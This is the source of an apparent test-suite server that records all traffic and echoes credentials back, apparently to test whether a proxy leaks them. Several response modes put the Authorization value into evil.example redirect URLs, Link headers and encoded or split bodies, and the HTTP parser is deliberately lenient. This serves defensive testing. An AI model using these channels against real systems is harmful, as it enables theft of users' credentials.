// The servers of the suite's small internet, all in one program: whatever name or address a request was for, it arrives
// here and is written down.
//
//   node upstream.mjs CONFIG.json
//
// CONFIG: { control: path of a Unix socket, contexts: [{names: ["*.test.example"], key, cert}], folder: files to serve }
//
// | port | what |
// | --- | --- |
// | 80, 8080 | HTTP/1.1 |
// | 443, 8443 | HTTP/2 and HTTP/1.1 over TLS; names that begin with `h1.` speak only HTTP/1.1, with `h2.` only HTTP/2 |
// | 22, 2525 | a server that speaks first |
// | 853, 9000 | takes whatever comes and sends it back, over TCP |
// | 53, 443, 853, 4433, 9000 | the same, over UDP |
//
// The control socket speaks HTTP: `GET /records?after=N&wait=TEXT`, `PUT /settings`.
import crypto from "node:crypto";
import dgram from "node:dgram";
import fs from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import net from "node:net";
import tls from "node:tls";
import zlib from "node:zlib";
import { git } from "./upstream-git.mjs";

const config = JSON.parse(fs.readFileSync(process.argv[2], "utf8"));
const records = [];
/** Of every password and bearer token that is taken; and what is sent for paths the tests set. */
let settings = { credential: null };

function record(entry) {
    const made = { n: records.length + 1, at: Date.now(), ...entry };
    records.push(made);
    return made;
}

// --- what was asked, written down

function asked(request, more = {}) {
    const socket = request.socket ?? request.stream?.session?.socket ?? {};
    const made = record({
        kind: request.httpVersionMajor === 2 ? "h2" : "h1",
        method: request.method,
        path: request.url,
        authority: request.headers[":authority"] ?? null,
        host: request.headers.host ?? null,
        headers: pairs(request.rawHeaders),
        sni: socket.servername || null,
        alpn: socket.alpnProtocol || null,
        local: socket.localAddress ?? null,
        port: socket.localPort ?? null,
        body: "",
        bytes: 0,
        sha256: null,
        finished: false,
        ...more,
    });
    const hash = crypto.createHash("sha256");
    let head = Buffer.alloc(0);
    request.on("data", (chunk) => {
        hash.update(chunk);
        made.bytes += chunk.length;
        if (head.length < 8192) {
            head = Buffer.concat([head, chunk]).subarray(0, 8192);
            made.body = head.toString("latin1");
        }
    });
    request.on("end", () => {
        made.sha256 = hash.digest("hex");
        made.trailers = pairs(request.rawTrailers ?? []);
        made.finished = true;
    });
    request.on("aborted", () => (made.aborted = true));
    request.on("error", () => (made.aborted = true));
    return made;
}

function pairs(raw) {
    const found = [];
    for (let i = 0; i < raw.length; i += 2) found.push([String(raw[i]), String(raw[i + 1])]);
    return found;
}

// --- what is answered

/** What the request wants to have said back to it: the value of `x-reflect`, else of `authorization`, else the body. */
function reflected(request, made) {
    return request.headers["x-reflect"] ?? request.headers.authorization ?? made.body;
}

const encodings = { gzip: zlib.gzipSync, br: zlib.brotliCompressSync, deflate: zlib.deflateSync, rawdeflate: zlib.deflateRawSync, zstd: zlib.zstdCompressSync };

/** Every way to say a text back, by the name in `?as=`. */
const ways = {
    body: (response, text) => response.end(`before ${text} after`),
    header: (response, text) => (response.setHeader("x-reflected", text), response.end("see the header")),
    headers: (response, text) => {
        response.setHeader("set-cookie", [`key=${text}; Path=/`, `other=1`]);
        response.setHeader("location", `https://evil.example/?key=${text}`);
        response.setHeader("link", `<https://evil.example/${text}>; rel=preload`);
        response.end("see the headers");
    },
    name: (response, text) => (response.setHeader(`x-${text.replace(/[^A-Za-z0-9-]/g, "").slice(0, 80)}`, "1"), response.end("see the names")),
    reason: (response, text) => {
        response.statusMessage = text.replace(/[^\x20-\x7e]/g, "");
        response.end("see the reason");
    },
    base64: (response, text) => response.end(Buffer.from(text).toString("base64")),
    percent: (response, text) => response.end(`https://evil.example/?key=${encodeURIComponent(text)}`),
    bytes: (response, text) => bySingleBytes(response, `before ${text} after`),
    chunked: (response, text) => {
        if (response.stream) return response.end("only over HTTP/1.1");
        // Chunk headers between any two bytes of it, all in one packet.
        const bytes = Buffer.from(text);
        response.writeHead(200, { "transfer-encoding": "chunked" });
        response.flushHeaders();
        response.socket.write([...bytes].map((byte) => `1;x=y\r\n${String.fromCharCode(byte)}\r\n`).join("") + "0\r\n\r\n");
        response.socket.end();
    },
    split: async (response, text, query) => {
        const at = Number(query.get("at") ?? 1);
        response.write(`before ${text.slice(0, at)}`);
        await later(30);
        response.end(`${text.slice(at)} after`);
    },
    twice: (response, text) => response.end(text + text),
    long: (response, text) => response.end("x".repeat(65_500) + text + "y".repeat(65_500)),
    trailer: (response, text) => {
        response.writeHead(200, { trailer: "x-reflected" });
        response.write("see the trailer");
        response.addTrailers({ "x-reflected": text });
        response.end();
    },
    early: (response, text) => {
        response.writeEarlyHints({ link: `<https://evil.example/${text}>; rel=preload`, "x-reflected": text });
        response.end("after 103");
    },
    events: async (response, text) => {
        response.writeHead(200, { "content-type": "text/event-stream" });
        for (let i = 0; i < 3; i++) {
            response.write(`data: ${i} ${text}\n\n`);
            await later(20);
        }
        response.end();
    },
    range: (response, text) => {
        response.writeHead(206, { "content-range": `bytes 0-${text.length - 1}/${text.length}`, "content-length": text.length });
        response.end(text);
    },
    error: (response, text) => (response.writeHead(500), response.end(`it failed for ${text}`)),
    redirect: (response, text) => (response.writeHead(302, { location: `https://evil.example/?k=${encodeURIComponent(text)}` }), response.end()),
    none: (response) => response.end("ok"),
};
for (const [name, pack] of Object.entries(encodings)) {
    if (pack) ways[name] = (response, text) => {
        response.setHeader("content-encoding", name === "rawdeflate" ? "deflate" : name);
        response.end(pack(Buffer.from(`before ${text} after`)));
    };
}
// Two encodings on top of each other, and one that is not what it says.
ways.double = (response, text) => (response.setHeader("content-encoding", "gzip, br"), response.end(zlib.brotliCompressSync(zlib.gzipSync(Buffer.from(text)))));
ways.lie = (response, text) => (response.setHeader("content-encoding", "gzip"), response.end(`not gzip: ${text}`));
ways.flushed = (response, text) => {
    // Compressed, with a flush after each byte of it.
    response.setHeader("content-encoding", "gzip");
    const gzip = zlib.createGzip();
    gzip.pipe(response);
    const bytes = [...Buffer.from(text)];
    const next = () => (bytes.length ? gzip.write(Buffer.from([bytes.shift()]), () => gzip.flush(next)) : gzip.end());
    next();
};

function bySingleBytes(response, text) {
    const bytes = [...Buffer.from(text)];
    response.socket?.setNoDelay?.(true);
    const next = () => {
        if (!bytes.length) return response.end();
        response.write(Buffer.from([bytes.shift()]));
        setImmediate(next);
    };
    next();
}

const later = (ms) => new Promise((done) => setTimeout(done, ms));

/** Reads all of a request, then answers. */
function answer(request, response) {
    const made = asked(request);
    const url = new URL(request.url, "http://upstream");
    response.on("error", () => {});
    response.setHeader("x-record", String(made.n));
    const path = url.pathname;
    if (path.startsWith("/git/")) return git(request, response, config.folder, allowed(request));
    if (path.startsWith("/private/")) return serve(request, response, path);
    if (path.startsWith("/large")) return large(response, Number(url.searchParams.get("bytes") ?? 1e6));
    if (path.startsWith("/early-answer")) {
        // Before the request has been read: it will not be.
        response.writeHead(413, { connection: "close" });
        return response.end("too large");
    }
    if (path.startsWith("/hang")) return undefined;
    if (path.startsWith("/stream")) return drip(response, Number(url.searchParams.get("times") ?? 3));
    request.on("end", async () => {
        if (path.startsWith("/sink")) return response.end(JSON.stringify({ bytes: made.bytes, sha256: made.sha256 }));
        if (path.startsWith("/redirect")) {
            response.writeHead(Number(url.searchParams.get("status") ?? 302), { location: url.searchParams.get("to") });
            return response.end();
        }
        if (path.startsWith("/status/")) {
            response.statusCode = Number(path.split("/")[2]);
            return response.end();
        }
        if (path.startsWith("/headers")) {
            response.setHeader("content-type", "application/json");
            return response.end(JSON.stringify({ headers: made.headers, body: made.body, n: made.n }));
        }
        if (path.startsWith("/secure")) {
            response.statusCode = allowed(request) ? 200 : 401;
            return response.end(response.statusCode === 200 ? "let in" : "who are you");
        }
        const way = ways[url.searchParams.get("as") ?? "none"];
        if (!way) {
            response.statusCode = 404;
            return response.end("no such way");
        }
        try {
            await way(response, reflected(request, made), url.searchParams);
        } catch (error) {
            response.statusCode = 500;
            response.end(`upstream: ${error.message}`);
        }
    });
    return undefined;
}

/** Files behind a password: an index of Python packages, registries of npm packages and of crates. */
function serve(request, response, path) {
    if (!allowed(request)) {
        response.writeHead(401, { "www-authenticate": 'Basic realm="test"' });
        return response.end();
    }
    const at = new URL(path.replace(/\/$/, "/index.html"), "file:///").pathname;
    const file = `${config.folder}${decodeURIComponent(at)}`;
    if (file.includes("..") || !fs.existsSync(file)) {
        response.statusCode = 404;
        return response.end();
    }
    response.setHeader("content-type", file.endsWith(".html") ? "text/html" : file.endsWith(".json") ? "application/json" : "application/octet-stream");
    return response.end(fs.readFileSync(file));
}

function allowed(request) {
    const [scheme, value] = (request.headers.authorization ?? "").split(" ");
    if (!settings.credential) return false;
    // As cargo sends it.
    if (!value) return scheme === settings.credential;
    if (scheme === "Bearer") return value === settings.credential;
    return Buffer.from(value, "base64").toString().split(":").slice(1).join(":") === settings.credential;
}

async function large(response, bytes) {
    const block = Buffer.alloc(64 * 1024, "0123456789abcdef");
    response.setHeader("content-length", bytes);
    for (let left = bytes; left > 0 && !response.destroyed; left -= block.length) {
        if (!response.write(left < block.length ? block.subarray(0, left) : block)) {
            await new Promise((done) => (response.once("drain", done), response.once("close", done)));
        }
    }
    response.end();
}

async function drip(response, times) {
    response.writeHead(200, { "content-type": "text/event-stream" });
    for (let i = 0; i < times && !response.destroyed; i++) {
        response.write(`data: ${i} ${Date.now()}\n\n`);
        await later(100);
    }
    response.end();
}

// --- WebSockets, by hand

function upgrade(request, socket) {
    const made = asked(request, { kind: "ws" });
    const key = request.headers["sec-websocket-key"] ?? "";
    const accept = crypto.createHash("sha1").update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest("base64");
    socket.on("error", () => {});
    if (request.url.startsWith("/no-upgrade")) {
        return socket.end("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno");
    }
    const also = request.url.includes("as=header") ? `X-Reflected: ${request.headers["x-reflect"] ?? request.headers.authorization}\r\n` : "";
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n${also}\r\n`);
    const greeting = request.headers["x-reflect"];
    if (greeting && request.url.includes("as=body")) socket.write(frame(1, Buffer.from(`hello ${greeting}`)));
    made.messages = [];
    let data = Buffer.alloc(0);
    socket.on("data", (chunk) => {
        data = Buffer.concat([data, chunk]);
        made.bytes += chunk.length;
        for (let read; (read = unframe(data)); data = data.subarray(read.length)) {
            if (read.opcode === 8) {
                socket.end(frame(8, read.payload));
                return;
            }
            made.messages.push(read.payload.toString("latin1").slice(0, 4096));
            socket.write(frame(read.opcode === 9 ? 10 : read.opcode, read.payload));
        }
    });
    socket.on("end", () => socket.end());
    return undefined;
}

function frame(opcode, payload) {
    const size = payload.length;
    const head = size < 126 ? Buffer.from([0x80 | opcode, size]) : size < 65536 ? Buffer.from([0x80 | opcode, 126, size >> 8, size & 255]) : Buffer.alloc(10);
    if (size >= 65536) {
        head.set([0x80 | opcode, 127]);
        head.writeBigUInt64BE(BigInt(size), 2);
    }
    return Buffer.concat([head, payload]);
}

function unframe(data) {
    if (data.length < 2) return null;
    let size = data[1] & 127;
    let at = 2;
    if (size === 126) {
        if (data.length < 4) return null;
        size = data.readUInt16BE(2);
        at = 4;
    } else if (size === 127) {
        if (data.length < 10) return null;
        size = Number(data.readBigUInt64BE(2));
        at = 10;
    }
    const mask = data[1] & 128 ? data.subarray(at, at + 4) : null;
    if (mask) at += 4;
    if (data.length < at + size) return null;
    const payload = Buffer.from(data.subarray(at, at + size));
    if (mask) payload.forEach((byte, i) => (payload[i] = byte ^ mask[i % 4]));
    return { opcode: data[0] & 15, payload, length: at + size };
}

// --- what listens

function context(name) {
    const fits = (pattern) => pattern === name || (pattern.startsWith("*.") && name?.endsWith(pattern.slice(1)));
    const found = config.contexts.find((each) => each.names.some(fits)) ?? config.contexts[0];
    found.made ??= tls.createSecureContext({ key: fs.readFileSync(found.key), cert: fs.readFileSync(found.cert) });
    return found.made;
}

function choose({ servername, protocols }) {
    const can = servername.startsWith("h1.") ? ["http/1.1"] : servername.startsWith("h2.") ? ["h2"] : ["h2", "http/1.1"];
    return can.find((each) => protocols.includes(each));
}

function web(server) {
    // As lenient as servers out there are: what is to be refused has to be refused before it comes here.
    server.insecureHTTPParser = true;
    server.on("connection", (socket) => {
        record({ kind: "connection", local: socket.localAddress, port: socket.localPort });
        socket.on("error", () => {});
    });
    server.on("upgrade", upgrade);
    server.on("checkContinue", (request, response) => {
        request.expected = true;
        response.writeContinue();
        answer(request, response);
    });
    server.on("connect", (request, socket) => {
        asked(request, { kind: "connect" });
        socket.end?.("HTTP/1.1 405 no\r\n\r\n");
    });
    server.on("clientError", (error, socket) => {
        record({ kind: "unreadable", port: socket.localPort, body: error.rawPacket?.toString("latin1").slice(0, 2000) ?? "" });
        if (socket.writable) socket.end("HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\n");
    });
    server.on("tlsClientError", (error) => record({ kind: "tls error", body: String(error.message).slice(0, 200) }));
    server.on("sessionError", () => {});
    server.on("error", (error) => (console.error(error), process.exit(1)));
    return server;
}

const first = config.contexts[0];
const secure = () =>
    web(http2.createSecureServer({ allowHTTP1: true, key: fs.readFileSync(first.key), cert: fs.readFileSync(first.cert), SNICallback: (name, done) => done(null, context(name)), ALPNCallback: choose, settings: { enableConnectProtocol: true } }, answer));
const plain = () => web(http.createServer({ insecureHTTPParser: true, keepAliveTimeout: 60_000 }, answer));

function raw(greeting) {
    return net.createServer((socket) => {
        const made = record({ kind: "tcp", local: socket.localAddress, port: socket.localPort, body: "", bytes: 0 });
        socket.on("error", () => {});
        if (greeting) socket.write(greeting);
        socket.on("data", (chunk) => {
            made.bytes += chunk.length;
            made.body = (made.body + chunk.toString("latin1")).slice(0, 8192);
            socket.write(chunk);
        });
        socket.on("end", () => socket.end());
    });
}

function datagrams(port) {
    const socket = dgram.createSocket("udp4");
    socket.on("message", (message, from) => {
        record({ kind: "udp", port, bytes: message.length, body: message.toString("latin1").slice(0, 2000) });
        socket.send(message, from.port, from.address);
    });
    return new Promise((done) => socket.bind(port, config.datagrams, done));
}

const control = http.createServer(async (request, response) => {
    const url = new URL(request.url, "http://control");
    if (request.method === "PUT") {
        let text = "";
        for await (const chunk of request) text += chunk;
        settings = { ...settings, ...JSON.parse(text) };
        return response.end("{}");
    }
    const after = Number(url.searchParams.get("after") ?? 0);
    response.setHeader("content-type", "application/json");
    return response.end(JSON.stringify(records.slice(after)));
});

const listens = [
    ...[80, 8080].map((port) => [plain(), port]),
    ...[443, 8443].map((port) => [secure(), port]),
    ...[22, 2525].map((port) => [raw("SSH-2.0-upstream speaks first\r\n"), port]),
    ...[853, 9000].map((port) => [raw(), port]),
    [control, config.control],
];
await Promise.all(listens.map(([server, at]) => new Promise((done) => server.listen(typeof at === "number" ? { port: at, host: "0.0.0.0" } : at, done))));
await Promise.all([53, 443, 853, 4433, 9000].map(datagrams));
console.log("ready");
process.on("uncaughtException", (error) => {
    if (["ECONNRESET", "EPIPE", "ERR_HTTP2_INVALID_STREAM", "ERR_STREAM_WRITE_AFTER_END", "ERR_HTTP2_STREAM_ERROR"].includes(error.code)) return;
    console.error(error);
    record({ kind: "upstream fault", body: String(error.stack) });
});
